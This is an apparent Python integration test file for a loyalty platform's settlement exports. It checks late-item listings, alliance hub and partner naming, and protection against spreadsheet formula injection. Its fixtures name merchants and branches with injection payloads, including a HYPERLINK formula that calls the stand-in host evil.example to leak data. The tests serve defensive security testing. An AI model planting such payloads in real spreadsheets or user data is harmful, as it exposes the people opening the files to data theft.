"""What statements show (issue 11): every late item (entry, business time, the month it belonged to,
the line, the amount) in JSON, CSV, XLSX and PDF; an alliance's partners by slug and name, its
operator as the hub and not as a partner; and no spreadsheet formula in any CSV/XLSX cell, whatever
merchants and branches are called — while numbers stay numbers."""

from __future__ import annotations

import re
import uuid
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import text

from lianka.platform.db import Database
from lianka.tenants.domain.programme import BonusFunder
from tests.api.settlement_kit import Chain, World, csv_table, make_chain, make_world, pdf_text, xlsx_sheets

pytestmark = pytest.mark.integration
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://evil.example/?leak","click me")'


async def download(client: Any, url: str, headers: dict[str, str]) -> bytes:
    r = await client.get(url, headers=headers)
    assert r.status_code == 200, r.text
    return bytes(r.content)


def row_of(table: list[list[str]], **match: str) -> list[str]:
    header = table[0]
    found = [r for r in table[1:] if len(r) == len(header) and all(r[header.index(k)] == v for k, v in match.items())]
    assert len(found) == 1, (match, found)
    return found[0]


# --- late items ---------------------------------------------------------------------------------


@pytest.fixture
async def late_chain(
    client, db: Database, tenant_factory, auth_kit, staff_token, member_factory
) -> tuple[Chain, uuid.UUID]:
    """October closed; then an offline till's top-up of 31 October, 20:00 at C lands in November."""
    chain = await make_chain(client, db, tenant_factory, auth_kit, staff_token, BonusFunder.HQ)
    x = await member_factory(chain.tenant)
    await chain.top_up(x, "500", "A")
    await chain.close("2026-10")
    late = await chain.top_up(x, "500", "C", at="2026-10-31T20:00:00+08:00")
    async with db.uow(chain.tenant) as uow:
        entry = await uow.session.scalar(text("SELECT entry_id FROM top_ups WHERE id = :t"), {"t": late["top_up_id"]})
    return chain, entry


async def test_late_items_are_listed_in_json(late_chain: tuple[Chain, uuid.UUID]) -> None:
    chain, entry = late_chain
    nov = await chain.close("2026-11")
    by_code = {s["code"]: s for s in nov["statements"]}
    item = {
        "entry_id": str(entry),
        "entry_kind": "pos_top_up",
        "business_time": "2026-10-31T20:00:00+08:00",
        "belongs_to": "2026-10",
        "line": "stored_value_collected",
        "amount": -50_000,
        "points": 0,
        "branch_id": str(chain.branches["C"]),
        "branch": "C",
    }
    got = by_code["C"]["late_items"]
    assert len(got) == 1 and {**got[0], "entry_kind": "pos_top_up"} == item
    assert sum(i["amount"] for i in got) == by_code["C"]["late"] == -50_000
    hub = next(s for s in nov["statements"] if s["entity_kind"] == "hub")
    assert [(i["entry_id"], i["amount"], i["branch"]) for i in hub["late_items"]] == [(str(entry), 50_000, "C")]
    assert by_code["A"]["late_items"] == [] and nov["summary"]["late_items"] == 1
    read = (await chain.client.get("/api/v1/settlement/periods/2026-11", headers=chain.owner)).json()
    assert read["checksum"] == nov["checksum"]
    assert {s["code"]: s["late_items"] for s in read["statements"]}["C"] == got  # stored, read back the same
    one = await chain.client.get(
        f"/api/v1/settlement/periods/2026-11/statements/{chain.branches['C']}", headers=chain.owner
    )
    assert one.json()["late_items"] == got


async def test_late_items_are_listed_in_every_file(late_chain: tuple[Chain, uuid.UUID]) -> None:
    chain, entry = late_chain
    await chain.close("2026-11")
    base = "/api/v1/settlement/periods/2026-11/download"
    table = csv_table(await download(chain.client, f"{base}/csv", chain.owner))
    row = row_of(table, entity_code="C", line="late_item")
    h = table[0]
    assert int(row[h.index("amount_minor")]) == -50_000
    assert (
        row[h.index("late_entry_id")],
        row[h.index("late_business_time")],
        row[h.index("late_belongs_to")],
        row[h.index("late_line")],
        row[h.index("late_branch")],
    ) == (str(entry), "2026-10-31T20:00:00+08:00", "2026-10", "stored_value_collected", "C")
    hub_row = row_of(table, entity_kind="hub", line="late_item")
    assert int(hub_row[h.index("amount_minor")]) == 50_000 and hub_row[h.index("late_branch")] == "C"
    sheets = xlsx_sheets(await download(chain.client, f"{base}/xlsx", chain.owner))
    lines = sheets["Lines"]
    xrow = next(r for r in lines[1:] if r[2] == "C" and r[4] == "late_item")
    assert xrow[7] == -50_000 and xrow[lines[0].index("late_entry_id")] == str(entry)
    assert xrow[lines[0].index("late_belongs_to")] == "2026-10"
    summary = {r[0]: r for r in sheets["Summary"][3:]}
    assert summary["C C"][7] == -500  # the late total, a number
    text_ = pdf_text(await download(chain.client, f"{base}/pdf", chain.owner))
    assert "迟到项目 Late items" in text_
    assert all(
        s in text_ for s in (str(entry), "2026-10-31T20:00:00+08:00", "2026-10", "Stored value collected", "-¥500.00")
    )


# --- alliances: partners by slug and name, the operator as the hub; formula-proof files --------


async def slug_of(db: Database, merchant: uuid.UUID) -> str:
    async with db.uow(system=True) as uow:
        slug = await uow.session.scalar(text("SELECT slug FROM merchants WHERE id = :m"), {"m": merchant})
    assert isinstance(slug, str)
    return slug


@pytest.fixture
async def evil_world(client, db: Database, tenant_factory, auth_kit, staff_token, member_factory) -> World:
    """Merchants and branches named like formulas; the operator's own branch O1 trades too."""
    w = await make_world(
        client,
        db,
        tenant_factory,
        auth_kit,
        staff_token,
        names={"O": "+Operator =cmd", "P": EVIL, "R": "-R shop"},
        branch_names={"P1": "@SUM(1+1)", "Q1": "\tTab branch"},
    )
    x = await member_factory(w.partners["P"].tenant)
    await w.earn("P", "P1", x, 600_000)
    await w.earn("P", "P2", x, 400_000)
    await w.earn("O", "O1", x, 100_000)
    await w.redeem("Q", "Q1", x, 6_000)
    await w.redeem("R", "R1", x, 4_000)
    return w


async def test_alliance_statements_name_partners_and_show_the_operator_as_the_hub(
    evil_world: World, db: Database
) -> None:
    w = evil_world
    out = await w.close()
    o = w.partners["O"]
    partners = {s["entity_id"]: s for s in out["statements"] if s["entity_kind"] == "partner"}
    assert set(partners) == {str(w.partners[k].tenant) for k in "PQR"}  # the operator is no partner
    for letter, name in (("P", EVIL), ("Q", "Partner Q"), ("R", "-R shop")):
        s = partners[str(w.partners[letter].tenant)]
        assert (s["code"], s["name"], s["partner"]) == (await slug_of(db, w.partners[letter].tenant), name, s["code"])
        assert s["merchant_id"] == s["entity_id"]
    hub = next(s for s in out["statements"] if s["entity_kind"] == "hub")
    o_slug = await slug_of(db, o.tenant)
    assert (hub["code"], hub["name"], hub["merchant_id"], hub["entity_id"]) == (
        o_slug,
        "+Operator =cmd",
        str(o.tenant),
        w.alliance,
    )
    branches = {s["code"]: s for s in out["statements"] if s["entity_kind"] == "branch"}
    assert branches["O1"]["parent_id"] == str(o.tenant) and branches["O1"]["partner"] == o_slug
    assert branches["O1"]["net"] == -1_000  # the operator's branch issued 1,000 points: settled within itself
    assert branches["P1"]["partner"] == await slug_of(db, w.partners["P"].tenant)
    nets = {s["name"]: s["net"] for s in partners.values()}
    assert nets == {EVIL: -10_000, "Partner Q": 4_800, "-R shop": 3_200}
    assert hub["net"] == -sum(nets.values()) and out["summary"]["sum_with_hub"] == 0
    assert out["summary"]["lines"]["points_issued"] == -11_000  # the operator's own branch counted in the totals
    q = w.partners["Q"]  # a partner sees its own statement, named the same way, and no hub
    mine = await w.call("GET", f"/api/v1/alliances/{w.alliance}/settlement/periods/2026-10", q.owner)
    assert [(s["entity_kind"], s["code"], s["partner"]) for s in mine["statements"]] == [
        ("partner", await slug_of(db, q.tenant), await slug_of(db, q.tenant)),
        ("branch", "Q1", await slug_of(db, q.tenant)),
    ]
    files = f"/api/v1/alliances/{w.alliance}/settlement/periods/2026-10/download"
    table = csv_table(await download(w.client, f"{files}/csv", o.owner))
    h = table[0]
    kinds = {(r[h.index("entity_kind")], r[h.index("entity_code")]) for r in table[1:] if len(r) == len(h)}
    assert ("partner", o_slug) not in kinds and ("hub", o_slug) in kinds
    assert ("partner", await slug_of(db, w.partners["P"].tenant)) in kinds
    assert row_of(table, entity_code="P1", line="net")[h.index("partner")] == await slug_of(db, w.partners["P"].tenant)
    pay = csv_table(await download(w.client, f"{files}/instructions", o.owner))
    assert {(r[1], r[2], int(r[3])) for r in pay[1:]} == {
        (f"{await slug_of(db, w.partners['P'].tenant)} {EVIL}", "'+Operator =cmd", 10_000),
        ("'+Operator =cmd", f"{await slug_of(db, q.tenant)} Partner Q", 4_800),
        ("'+Operator =cmd", f"{await slug_of(db, w.partners['R'].tenant)} -R shop", 3_200),
    }
    text_ = " ".join(pdf_text(await download(w.client, f"{files}/pdf", o.owner)).split())  # lines may wrap
    assert f"{EVIL} ({await slug_of(db, w.partners['P'].tenant)}) · partner" in text_
    assert f"+Operator =cmd ({o_slug}) · hub" in text_


def assert_no_formula(cells: list[Any], where: str) -> None:
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(TRIGGERS):
            assert re.fullmatch(r"-[0-9]+", cell), f"{where}: {cell!r} would be evaluated"


async def test_no_spreadsheet_cell_is_a_formula(evil_world: World, member_factory) -> None:
    w = evil_world
    await w.close()
    await w.earn("P", "P1", await member_factory(w.partners["P"].tenant), 1_000)  # a late item too
    await w.close("2026-11")
    o = w.partners["O"]
    for period in ("2026-10", "2026-11"):
        files = f"/api/v1/alliances/{w.alliance}/settlement/periods/{period}/download"
        for fmt in ("csv", "instructions"):
            table = csv_table(await download(w.client, f"{files}/{fmt}", o.owner))
            assert_no_formula([c for r in table for c in r], fmt)
            assert any(c.startswith(("'=HYPERLINK", "'+Operator")) for r in table for c in r)  # shown, as text
        sheets = xlsx_sheets(await download(w.client, f"{files}/xlsx", o.owner))
        for title, rows in sheets.items():
            assert_no_formula([c for r in rows for c in r], title)
        numbers = [r for r in sheets["Summary"][3:] if r[1] == "partner"]
        assert numbers and all(isinstance(r[c], int | float | Decimal) for r in numbers for c in (2, 3, 5))
        assert all(isinstance(r[7], int) for r in sheets["Lines"][1:] if r[4] == "net")  # amounts in minor units
    p = w.partners["P"]  # a partner's own download: its name, neutralised too
    url = f"/api/v1/alliances/{w.alliance}/settlement/periods/2026-10/download/csv"
    table = csv_table(await download(w.client, url, p.owner))
    assert_no_formula([c for r in table for c in r], "partner csv")
    assert any(c == "'" + EVIL for r in table for c in r)
